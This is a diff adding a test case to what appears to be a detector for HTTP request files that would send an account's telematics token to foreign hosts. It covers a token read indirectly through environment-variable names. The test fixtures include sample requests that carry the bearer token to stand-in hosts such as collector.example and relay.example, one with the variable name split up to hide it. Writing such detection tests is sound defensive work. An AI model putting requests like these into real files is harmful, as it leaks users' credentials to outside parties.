@@ -148,6 +148,19 @@ describe('requests that would send an account\'s token to another site', () => {
 		assert.deepEqual((await foreignSends(text, accounts, { name: 'TELEMATICS_TOKEN', accountId: 'a1' })).map((s) => s.host), ['collector.example', 'relay.example']);
 	});
 
+	it('the exposed token through a name the file does not say (issue 34): REST Client\'s %name, httpYac\'s process.env[…]', async () => {
+		const exposed = { name: 'TELEMATICS_TOKEN', accountId: 'a1' };
+		const text = [
+			'### a', 'GET https://collector.example/', 'Authorization: Bearer {{$processEnv %tokenName}}', '',
+			'### b', 'GET https://relay.example/', "Authorization: Bearer {{ process.env['TELEMATICS' + '_TOKEN'] }}", '',
+			'### c', 'GET https://third.example/', 'Authorization: Bearer {{$dotenv %tokenName}}', '',
+			'### d: another variable read plainly', 'GET https://fourth.example/', 'X-Home: {{$processEnv HOME}}', '',
+			'### e: the service', 'GET https://user.telematicssdk.com/', 'Authorization: Bearer {{$processEnv %tokenName}}', '',
+		].join('\n');
+		assert.deepEqual(await foreignSends(text, accounts), [], 'nothing while no token is exposed');
+		assert.deepEqual((await foreignSends(text, accounts, exposed)).map((s) => s.host), ['collector.example', 'relay.example', 'third.example']);
+	});
+
 	it('nothing for a file without tokens of logged-in accounts, whatever it holds (generated)', async () => {
 		await fc.assert(fc.asyncProperty(fc.array(fc.oneof(fc.constantFrom('###', 'GET https://collector.example/', `Authorization: Bearer ${stranger}`, '@v = {{telematicsToken}}', '# @name x', 'X: {{x.request.headers.Authorization}}', ''), fc.string()), { maxLength: 30 }), async (lines) => {
 			assert.deepEqual(await foreignSends(lines.join('\n'), accounts), []);
